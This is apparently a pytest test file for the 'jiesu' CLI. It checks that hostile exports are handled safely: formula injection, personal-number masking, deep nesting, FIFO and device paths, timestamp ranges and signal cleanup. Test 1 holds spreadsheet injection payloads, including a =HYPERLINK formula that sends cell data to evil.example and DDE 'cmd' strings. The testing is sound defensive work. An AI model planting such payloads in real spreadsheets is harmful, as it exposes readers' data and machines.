"""Issue 8, case by case: what an adversarial export or command line did to jiesu, and what it does now.

Each ``test_<n>_...`` is one numbered case of the issue. Inputs live in ``fixtures/hostile/`` (made by
``tools/make_hostile_fixtures.py``); big or special ones (deep nesting, FIFOs, extreme Parquet
timestamps, non-UTF-8 names) are made here. Runs that could crash the interpreter (Arrow's parser on
deep nesting) or must receive a signal run in a child process.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from jiesu.cli.app import app

FIX = Path(__file__).resolve().parents[1] / "fixtures"
HOSTILE = FIX / "hostile"
SCORING = FIX / "scoring"
PROFILE = HOSTILE / "hostile-profile.toml"
runner = CliRunner()

#: an unmasked personal number: 11 or more digits, single spaces or hyphens allowed between them
UNMASKED = re.compile(r"(?<![0-9])[0-9](?:[ \-]?[0-9]){10,}(?![0-9])")
#: what must never reach a terminal raw: C0/C1 controls (but line feed), bidi and zero-width marks
RAW_CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def cli(*args: object):
    return runner.invoke(app, [str(a) for a in args])


def one_line_error(result, code: int, *needles: str) -> str:
    """The run failed with ``code`` and one ``jiesu: error:`` line (holding ``needles``), no traceback."""
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == code, (result.exit_code, result.stderr)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("jiesu: error:"), result.stderr
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])
    return lines[0]


def children(commands: list[list[str]], env: dict[str, str] | None = None, timeout: float = 120) -> list[dict]:
    """Run CLI invocations in one child interpreter (a crash there fails the test, not the suite);
    each gives its exit code, stdout and stderr."""
    code = (
        "import json, sys\n"
        "from typer.testing import CliRunner\n"
        "from jiesu.cli.app import app\n"
        "out = []\n"
        "for args in json.loads(sys.argv[1]):\n"
        "    r = CliRunner().invoke(app, args)\n"
        "    out.append({'code': r.exit_code, 'stdout': r.stdout, 'stderr': r.stderr,\n"
        "                'exception': None if r.exception is None or isinstance(r.exception, SystemExit)\n"
        "                else repr(r.exception)})\n"
        "print(json.dumps(out))\n"
    )
    proc = subprocess.run([sys.executable, "-c", code, json.dumps(commands)], capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, **(env or {})}, check=False)
    assert proc.returncode == 0, (proc.returncode, proc.stderr[-2000:])
    return json.loads(proc.stdout.splitlines()[-1])


def scoring_csv(path: Path, **replace: str) -> Path:
    """The scoring fixture with the first dispatched row's fields replaced."""
    with open(SCORING / "cases.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    rows[0].update(replace)
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return path


def spreadsheet_cells_inert(cells: list[str]) -> None:
    for cell in cells:
        try:
            float(cell)
            continue  # a number, never a formula
        except ValueError:
            pass
        assert not cell.lstrip(" ").startswith(FORMULA_START), cell


def xlsx_inert(data: bytes) -> int:
    """No formula in any cell of the workbook; text that looks like one is quote-prefixed. Returns
    how many such text cells there were."""
    from openpyxl import load_workbook

    quoted = 0
    for ws in load_workbook(io.BytesIO(data)):
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value.lstrip(" ").startswith(FORMULA_START):
                    assert c.quotePrefix, (ws.title, c.coordinate, c.value)
                    quoted += 1
    return quoted


# ---------------------------------------------------------------- 1. formula injection

def test_1_formulas_in_case_data_are_inert_in_csv():
    result = cli("score", HOSTILE / "formula-categories.csv", "-p", PROFILE, "--by", "category", "-f", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    categories = {r[1] for r in rows[1:]}
    assert categories == {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'+cmd|' /C calc'!A0",
                          "'@SUM(1+1)", "'-2+3+cmd|' /C calc'!A0"}
    spreadsheet_cells_inert([c for r in rows for c in r])


def test_1_formulas_in_profile_names_are_inert_on_every_sheet(tmp_path):
    out = tmp_path / "rank.xlsx"
    result = cli("rank", SCORING / "cases.csv", "-p", PROFILE, "--month", "2024-02", "-f", "xlsx", "-o", out)
    assert result.exit_code == 0, result.stderr
    # S11 (=HYPERLINK) is on the full table and two class sheets; S21 (+cmd) on the full table and one
    assert xlsx_inert(out.read_bytes()) >= 5


def test_1_boston_queue_formula_reaches_the_ranking_workbook_inert(tmp_path):
    cases, prof, book = tmp_path / "b.parquet", tmp_path / "b.toml", tmp_path / "b.xlsx"
    result = cli("import", HOSTILE / "boston-formula-queue.csv", "-m", "boston-311", "-o", cases, "--profile-out", prof)
    assert result.exit_code == 0, result.stderr
    assert "=HYPERLINK" in prof.read_text(encoding="utf-8")  # the profile keeps the name as it is
    result = cli("rank", cases, "-p", prof, "--month", "2015-03", "--level", "department", "-f", "xlsx", "-o", book)
    assert result.exit_code == 0, result.stderr
    assert xlsx_inert(book.read_bytes()) == 2  # the queue's row on the full table and on governance


# ---------------------------------------------------------------- 2. personal numbers echoed

@pytest.mark.parametrize("command", [["validate"], ["score"], ["rank", "--month", "2024-03"]])
def test_2_a_csv_row_quoted_by_arrow_is_cut_from_the_message(command):
    result = cli(*command, HOSTILE / "extra-column.csv")
    line = one_line_error(result, 3, "Expected 7 columns, got 8")
    assert "caller" not in line and not UNMASKED.search(line) and "1949" not in line


def test_2_every_sample_masks_every_form_of_personal_number():
    path = HOSTILE / "personal-numbers.ndjson"
    reports = {fmt: cli("validate", path, "-f", fmt) for fmt in ("table", "json", "github")}
    for fmt, result in reports.items():
        assert result.exit_code == 1, (fmt, result.stderr)
        assert not UNMASKED.search(result.stdout), (fmt, UNMASKED.search(result.stdout))
        assert "x@example.com" not in result.stdout
    notices = {(n["code"], n["field"]): n for n in json.loads(reports["json"].stdout)["notices"]}
    for key in [("wrong-type", "objections"), ("not-an-object", None), ("not-in-enum", "channel"),
                ("invalid-date-time", "received_at"), ("out-of-range", "objections"),
                ("pattern-mismatch", "case_id"), ("duplicate-case-id", "case_id"), ("unknown-field", "138******78")]:
        assert notices[key]["count"] == 1, key
    # every form of number and the e-mail address is detected in free text: rows 10 to 16
    assert notices[("personal-data", "topic")]["count"] == 7
    assert notices[("duplicate-case-id", "case_id")]["samples"][0]["value"] == "138******78"


# ---------------------------------------------------------------- 3. a crash on deep nesting

def test_3_deep_nesting_is_read_without_a_crash(tmp_path):
    depth = 20_000
    nested = '{"a": [' * depth + "1" + "]}" * depth  # arrays in objects, about 120 KB
    line = '{"case_id": "X1", "received_at": "2024-03-01T08:00:00+08:00", "extra": ' + nested + "}\n"
    assert 100_000 < len(line) < 200_000
    nd, js = tmp_path / "deep.ndjson", tmp_path / "deep.json"
    nd.write_text(line, encoding="utf-8")
    js.write_text(line, encoding="utf-8")
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    runs = children([["validate", str(nd), "-f", "json"], ["score", str(nd)], ["rank", str(nd), "--month", "2024-03"],
                     ["validate", str(js)], ["rank", str(js), "--month", "2024-03"]], env={"TMPDIR": str(scratch)})
    # NDJSON: the line is read by Python and reported; a JSON document (one value) cannot be read
    assert [r["code"] for r in runs] == [1, 1, 1, 3, 3] and not any(r["exception"] for r in runs)
    report = json.loads(runs[0]["stdout"])
    assert [n["code"] for n in report["notices"]] == ["invalid-json"]
    assert "wrong type" in runs[1]["stderr"] and len(runs[1]["stderr"].splitlines()) == 1
    assert all("nested too deeply" in r["stderr"] and len(r["stderr"].splitlines()) == 1 for r in runs[3:])
    assert not list(scratch.iterdir())  # no jiesu-ids-* folder left behind


# ---------------------------------------------------------------- 4. --output on special files

@pytest.fixture
def devices_untouchable(monkeypatch):
    """A safety net: should the guard break, the test fails instead of replacing /dev/null or
    /dev/zero (as root, a rename onto them succeeds)."""
    import tempfile

    real_replace, real_mkstemp = os.replace, tempfile.mkstemp

    def replace(src, dst, *a, **kw):
        assert not os.path.realpath(dst).startswith("/dev/"), f"would replace {dst}"
        return real_replace(src, dst, *a, **kw)

    def mkstemp(*a, **kw):
        assert not os.path.realpath(str(kw.get("dir") or ".")).startswith("/dev"), "a temporary file in /dev"
        return real_mkstemp(*a, **kw)

    monkeypatch.setattr(os, "replace", replace)
    monkeypatch.setattr(tempfile, "mkstemp", mkstemp)


def test_4_output_refuses_devices_fifos_folders_and_inputs(tmp_path, devices_untouchable):
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    data = tmp_path / "in.parquet"
    data.write_bytes((FIX / "valid" / "cases.parquet").read_bytes())
    before = data.read_bytes()
    for target, words in [("/dev/zero", "character device"), (fifo, "FIFO"), (tmp_path, "folder"),
                          ("", "empty"), (tmp_path / "no" / "x.csv", "does not exist")]:
        one_line_error(cli("validate", FIX / "valid" / "cases.ndjson", "-o", target), 2, words, "[bad-output]")
    one_line_error(cli("rank", data, "--month", "2024-03", "-f", "parquet", "-o", data), 2, "input of this run")
    one_line_error(cli("score", tmp_path, "-f", "csv", "-o", data), 2, "input of this run")  # in a folder
    assert data.read_bytes() == before and stat.S_ISFIFO(os.stat(fifo).st_mode)


def test_4_dev_null_discards_and_stays_a_device(devices_untouchable):
    result = cli("rank", FIX / "valid" / "cases.parquet", "--month", "2024-03", "-f", "xlsx", "-o", os.devnull)
    assert result.exit_code == 0, result.stderr
    assert stat.S_ISCHR(os.stat(os.devnull).st_mode)


def test_4_a_symlink_is_written_through(tmp_path):
    real = tmp_path / "real.json"
    real.write_text("old", encoding="utf-8")
    link = tmp_path / "link.json"
    link.symlink_to(real.name)
    result = cli("validate", FIX / "valid" / "cases.ndjson", "-f", "json", "-o", link)
    assert result.exit_code == 0, result.stderr
    assert link.is_symlink() and os.readlink(link) == "real.json"
    assert json.loads(real.read_text(encoding="utf-8"))["valid"] is True


def test_4_dash_is_stdout_for_simulate_and_no_file_named_dash(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = cli("simulate", "-s", FIX / "scenarios" / "mmc.toml", "-d", "1", "--set",
                 "intake.arrival_rate_per_hour=20", "-o", "-")
    assert result.exit_code == 0, result.stderr
    assert not Path("-").exists()
    assert pq.read_table(pa.BufferReader(result.stdout_bytes)).num_rows > 0
    monkeypatch.setattr("jiesu.io.atomic.stdout_is_terminal", lambda: True)
    refused = cli("simulate", "-s", FIX / "scenarios" / "mmc.toml", "-d", "1", "-o", "-")
    one_line_error(refused, 2, "terminal")
    assert not Path("-").exists()


# ---------------------------------------------------------------- 5. a FIFO as input

def test_5_a_fifo_or_device_as_input_is_refused_without_hanging(tmp_path):
    fifo = tmp_path / "cases.ndjson"
    os.mkfifo(fifo)  # no writer: opening it would block for ever
    runs = children([["validate", str(fifo)], ["score", str(fifo)], ["validate", "/dev/zero"]], timeout=60)
    assert [r["code"] for r in runs] == [3, 3, 3]
    assert "FIFO" in runs[0]["stderr"] and "FIFO" in runs[1]["stderr"] and "device" in runs[2]["stderr"]


# ---------------------------------------------------------------- 6. date-times validate passes, score cannot use

@pytest.mark.parametrize("value", ["9999-12-31T23:59:59+08:00", "9999-12-31T23:59:59-14:00",
                                   "0001-01-01T00:00:00+14:00", "2200-01-01T00:00:00Z", "1899-12-31T23:59:59Z"])
def test_6_date_times_outside_the_supported_range(tmp_path, value):
    path = scoring_csv(tmp_path / "cases.csv", callback_at=value)
    report = json.loads(cli("validate", path, "-p", SCORING / "profile.toml", "-f", "json").stdout)
    found = [n for n in report["notices"] if n["code"] == "date-time-out-of-range"]
    assert len(found) == 1 and found[0]["field"] == "callback_at" and found[0]["count"] == 1
    for command in (["score"], ["rank", "--month", "2024-02"]):
        one_line_error(cli(*command, path, "-p", SCORING / "profile.toml"), 1, "supported range")


@pytest.mark.parametrize("value", ["2024-02-10T02:00:00.1234567891Z", "2024-02-10t02:00:00z", "2024-02-10T02:00:00Z\n"])
def test_6_every_form_validate_accepts_score_reads_alike(tmp_path, value):
    odd = scoring_csv(tmp_path / "odd.csv", callback_at=value)
    plain = scoring_csv(tmp_path / "plain.csv", callback_at="2024-02-10T02:00:00Z")
    report = json.loads(cli("validate", odd, "-p", SCORING / "profile.toml", "-f", "json").stdout)
    assert report["errors"] == 0
    for command in (["score"], ["rank", "--month", "2024-02"]):
        results = [cli(*command, path, "-p", SCORING / "profile.toml", "-f", "json") for path in (odd, plain)]
        assert results[0].exit_code == 0, results[0].stderr
        assert results[0].stdout == results[1].stdout


def test_6_the_range_edges_are_inside(tmp_path):
    for value in ("1900-01-01T00:00:00Z", "2199-12-31T23:59:59.999999Z"):
        path = scoring_csv(tmp_path / "cases.csv", callback_at=value, received_at="1900-01-01T00:00:00Z",
                           dispatched_at="1900-01-01T00:00:00Z", deadline_at="1900-01-01T00:00:00Z")
        report = json.loads(cli("validate", path, "-p", SCORING / "profile.toml", "-f", "json").stdout)
        assert report["valid"], report["notices"]
        assert cli("score", path, "-p", SCORING / "profile.toml").exit_code == 0


@pytest.mark.parametrize("us", [np.iinfo(np.int64).min, np.iinfo(np.int64).max, 253_402_300_800 * 10**6])
def test_6_extreme_parquet_timestamps(tmp_path, us):
    table = pq.read_table(FIX / "valid" / "cases.parquet")
    i = table.column_names.index("callback_at")
    col = table.column(i).combine_chunks()
    row = col.is_valid().to_pylist().index(True)
    values = col.cast(pa.int64()).fill_null(0).to_numpy().copy()
    values[row] = us
    path = tmp_path / "extreme.parquet"
    pq.write_table(table.set_column(i, "callback_at", pa.array(values, mask=~np.asarray(col.is_valid()))
                                    .cast(col.type)), path)
    report = json.loads(cli("validate", path, "-f", "json").stdout)
    (notice,) = [n for n in report["notices"] if n["code"] == "date-time-out-of-range"]
    assert notice["count"] == 1 and notice["samples"][0]["row"] == row + 1
    one_line_error(cli("score", path), 1, "supported range")
    one_line_error(cli("rank", path, "--month", "2024-03"), 1, "supported range")


@pytest.mark.parametrize("setting", ["scenario.start=9999-12-31", "callback.delay_hours=1e308",
                                     "scenario.start=0001-01-01", "scenario.start=2199-12-20"])
def test_6_simulate_refuses_what_would_leave_the_range(tmp_path, setting):
    out = tmp_path / "x.parquet"
    result = cli("simulate", "-s", FIX / "scenarios" / "mmc.toml", "-d", "30", "--set", setting, "-o", out)
    one_line_error(result, 2, setting.split("=")[0] if "2199" not in setting else "supported range")
    assert not out.exists()


# ---------------------------------------------------------------- 7. runs too big to finish

def test_7_a_run_that_cannot_fit_is_refused_with_its_estimate(tmp_path, monkeypatch):
    monkeypatch.setattr("jiesu.memory.available_memory", lambda: 16 << 30)
    result = cli("simulate", "-s", "beijing-baseline", "-d", "3660", "-o", tmp_path / "x.parquet")
    requests = 2525 * 24 * 3660  # the baseline's rate over ten years
    line = one_line_error(result, 2, f"{requests:,} requests", "[too-large]", "16.0 GiB")
    assert f"{(200 * requests + (200 << 20)) / 2**30:,.1f} GiB" in line


@pytest.mark.parametrize("setting", ["intake.agents=1000000000", "intake.arrival_rate_per_hour=1e9",
                                     "intake.arrival_rate_per_hour=1e308", "handling.capacity.110101001=1000000000000"])
def test_7_parameters_that_allocate_gigabytes_are_refused(tmp_path, setting):
    result = cli("simulate", "-s", "beijing-baseline", "-d", "1", "--set", setting, "-o", tmp_path / "x.parquet")
    one_line_error(result, 2, setting.split("=")[0], "at most")


def test_7_more_servers_than_customers_change_nothing():
    from jiesu.simulation.queue import fifo_starts

    rng = np.random.default_rng(1)
    arrivals = np.sort(rng.random(50) * 100)
    services = rng.random(50) * 30
    few, many = fifo_starts(arrivals, services, 50), fifo_starts(arrivals, services, 10**12)
    assert (few == arrivals).all() and (many == few).all()  # someone is always free: no waiting


# ---------------------------------------------------------------- 8. SIGTERM and stale temporaries

SLOW_WRITE = """
import contextlib, sys, time
import jiesu.io.atomic as atomic
real = atomic.open_output

@contextlib.contextmanager
def slow(*args, **kwargs):
    with real(*args, **kwargs) as fh:
        yield fh
        fh.flush()
        time.sleep(60)  # the temporary file exists now

atomic.open_output = slow
import jiesu.validation.engine as engine
check = engine._check_batch
slow_check = "--slow-check" in sys.argv  # decided before the flag leaves sys.argv
engine._check_batch = lambda *a: (time.sleep(60) if slow_check else None, check(*a))[1]
sys.argv = ["jiesu"] + [a for a in sys.argv[1:] if a != "--slow-check"]
from jiesu.cli.app import main
main()
"""


def _stopped(tmp_path: Path, args: list[str], sig: int, ready) -> subprocess.CompletedProcess:
    env = {**os.environ, "TMPDIR": str(tmp_path / "tmp")}
    (tmp_path / "tmp").mkdir(exist_ok=True)
    proc = subprocess.Popen([sys.executable, "-c", SLOW_WRITE, *args], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, env=env)
    deadline = time.monotonic() + 90
    while not ready() and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.05)
    assert ready(), proc.communicate()
    proc.send_signal(sig)
    out, err = proc.communicate(timeout=60)
    return subprocess.CompletedProcess(proc.args, proc.returncode, out, err)


@pytest.mark.parametrize(("sig", "code", "word"), [(signal.SIGTERM, 143, "terminated"), (signal.SIGINT, 130, "interrupted")])
def test_8_a_signal_while_writing_leaves_no_temporary_file(tmp_path, sig, code, word):
    target = tmp_path / "report.json"
    done = _stopped(tmp_path, ["validate", str(FIX / "valid" / "cases.ndjson"), "-f", "json", "-o", str(target)],
                    sig, lambda: any(p.name.endswith(".tmp") for p in tmp_path.iterdir()))
    assert done.returncode == code and done.stderr.strip().splitlines() == [f"jiesu: {word}"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["tmp"]  # no report, no .report.json.*.tmp


def test_8_sigterm_while_checking_removes_the_scratch_folder(tmp_path):
    scratch = tmp_path / "tmp"
    done = _stopped(tmp_path, ["validate", str(FIX / "valid" / "cases.ndjson"), "--slow-check"], signal.SIGTERM,
                    lambda: scratch.exists() and any(p.name.startswith("jiesu-ids-") for p in scratch.iterdir()))
    assert done.returncode == 143 and "terminated" in done.stderr
    assert not list(scratch.iterdir())


def test_8_stale_temporaries_of_dead_or_old_runs_are_removed_by_the_next_run(tmp_path, monkeypatch):
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True,
                          check=True)
    dead = int(gone.stdout)  # a process that has exited
    alive = os.getpid()
    names = {
        f".report.json.jiesu-{dead}-abcd1234.tmp": False,  # its process is gone: removed
        f".other.csv.jiesu-{alive}-abcd1234.tmp": True,  # a live run's: kept
        f".old.csv.jiesu-{alive}-old12345.tmp": False,  # older than a day: removed
        ".mine.tmp": True,  # not jiesu's name: never touched
    }
    for name in names:
        (tmp_path / name).write_text("x", encoding="utf-8")
    old = time.time() - 2 * 86400
    os.utime(tmp_path / f".old.csv.jiesu-{alive}-old12345.tmp", (old, old))
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    (scratch / f"jiesu-ids-{dead}-abcdefgh").mkdir()
    (scratch / f"jiesu-ids-{dead}-abcdefgh" / "p0.bin").write_bytes(b"x")
    (scratch / f"jiesu-ids-{alive}-abcdefgh").mkdir()
    monkeypatch.setenv("TMPDIR", str(scratch))
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", None)  # read TMPDIR again
    result = cli("validate", FIX / "valid" / "cases.ndjson", "-o", tmp_path / "report.txt")
    assert result.exit_code == 0, result.stderr
    left = {p.name for p in tmp_path.iterdir()} - {"report.txt", "tmp"}
    assert left == {n for n, keep in names.items() if keep}
    assert [p.name for p in scratch.iterdir()] == [f"jiesu-ids-{alive}-abcdefgh"]


# ---------------------------------------------------------------- 9. Markdown tables and the terminal

def markdown_cells(line: str) -> int:
    """Unescaped | in a Markdown table line (a backslash escapes the next character)."""
    count, i = 0, 0
    while i < len(line):
        if line[i] == "\\":
            i += 2
            continue
        count += line[i] == "|"
        i += 1
    return count


def test_9_markup_in_names_keeps_markdown_tables_whole_and_terminals_clean():
    path = HOSTILE / "markup-categories.csv"
    md = cli("score", path, "-p", PROFILE, "--by", "category", "-f", "markdown")
    assert md.exit_code == 0, md.stderr
    table = md.stdout.split("\n\n", 1)[1].strip().splitlines()
    rows = json.loads(cli("score", path, "-p", PROFILE, "--by", "category", "-f", "json").stdout)
    assert len(table) == 2 + len(rows) == 2 + 11  # header, rule, one line a row
    assert all(line.startswith("|") for line in table) and len({markdown_cells(line) for line in table}) == 1
    for command in (["score", path, "-p", PROFILE, "--by", "category"], ["validate", path, "-p", PROFILE],
                    ["rank", SCORING / "cases.csv", "-p", PROFILE, "--month", "2024-02"],
                    ["profile", "show", "-p", PROFILE, "--units"]):
        result = cli(*command)
        assert result.exit_code in (0, 1), result.stderr
        assert not RAW_CONTROL.search(result.stdout + result.stderr), command
        assert not UNMASKED.search(result.stdout + result.stderr), command


# ---------------------------------------------------------------- 10. internal errors that are not

def test_10_duplicate_column_names(tmp_path):
    table = pa.Table.from_arrays([pa.array(["A1"]), pa.array(["x"]), pa.array(["y"])],
                                 names=["case_id", "category", "category"])
    pq.write_table(table, tmp_path / "dup.parquet")
    for path, column in [(HOSTILE / "duplicate-columns.csv", "'138******78'"), (tmp_path / "dup.parquet", "'category'")]:
        for command in (["validate"], ["score"], ["rank", "--month", "2024-03"]):
            one_line_error(cli(*command, path), 3, f"column name {column} appears 2 times")


def test_10_a_file_name_that_is_not_utf8(tmp_path):
    name = os.fsdecode(b"cases-\xff.ndjson")  # a surrogate stands for the byte
    (tmp_path / name).write_bytes((FIX / "valid" / "cases.ndjson").read_bytes())
    for command in (["validate"], ["score"]):
        line = one_line_error(cli(*command, tmp_path / name), 3, "not valid UTF-8")
        assert "\\udcff" in line  # shown as an escape, never written raw


@pytest.mark.parametrize("encoding", ["bogus", "rot13", ""])
def test_10_a_wrong_encoding_is_a_usage_error(encoding):
    one_line_error(cli("validate", FIX / "valid" / "cases.csv", "--encoding", encoding), 2, "encoding")


@pytest.mark.parametrize("target", ["", "."])
def test_10_output_naming_a_folder_or_nothing(tmp_path, target):
    target = target and str(tmp_path)
    for command in (["validate", FIX / "valid" / "cases.ndjson"], ["score", FIX / "valid" / "cases.ndjson"],
                    ["rank", FIX / "valid" / "cases.ndjson", "--month", "2024-03"],
                    ["simulate", "-s", FIX / "scenarios" / "mmc.toml", "-d", "1"],
                    ["import", HOSTILE / "boston-formula-queue.csv", "-m", "boston-311"]):
        one_line_error(cli(*command, "-o", target), 2, "[bad-output]")


def test_10_a_control_character_in_a_name_with_xlsx(tmp_path):
    out = tmp_path / "rank.xlsx"
    result = cli("rank", SCORING / "cases.csv", "-p", PROFILE, "--month", "2024-02", "-f", "xlsx", "-o", out)
    assert result.exit_code == 0, result.stderr
    from openpyxl import load_workbook

    names = [c.value for ws in load_workbook(out) for c in ws["C"] if isinstance(c.value, str)]
    assert "bell\\x07 esc\\x1b[31m | pipe 138******78" in names
    assert not any(RAW_CONTROL.search(n) for n in names)


def test_10_a_huge_field_gives_a_small_report(tmp_path):
    rec = json.loads((FIX / "valid" / "cases.ndjson").read_text(encoding="utf-8").splitlines()[0])
    rec["topic"] = "T" * 10_000_000  # breaks maxLength and the code pattern
    path = tmp_path / "huge.ndjson"
    path.write_text(json.dumps(rec) + "\n", encoding="utf-8")
    for fmt in ("table", "json", "github"):
        result = cli("validate", path, "-f", fmt)
        assert result.exit_code == 1 and len(result.stdout) < 10_000, (fmt, len(result.stdout))


def test_a_file_given_twice_is_refused_not_counted_twice(tmp_path):
    """The same file named twice, or named and inside a folder also given, or through a link:
    usage error (exit 2) naming it, before anything is counted."""
    folder = tmp_path / "exports"
    folder.mkdir()
    shutil.copy(FIX / "valid" / "cases.parquet", folder / "a.parquet")
    link = tmp_path / "link.parquet"
    link.symlink_to(folder / "a.parquet")
    a = folder / "a.parquet"
    for args, named in (([a, a], f"{a}: given twice;"), ([folder, a], f"{a}: given twice;"),
                        ([a, link], f"{link}: given twice (also as {a});")):
        for command in (["score"], ["validate"], ["rank", "--month", "2024-03"], ["report", "--month", "2024-03"]):
            result = cli(*command, *args)
            assert result.exit_code == 2, (command, args, result.output)
            assert named in result.stderr and "Traceback" not in result.output
    assert cli("score", folder).exit_code == 0
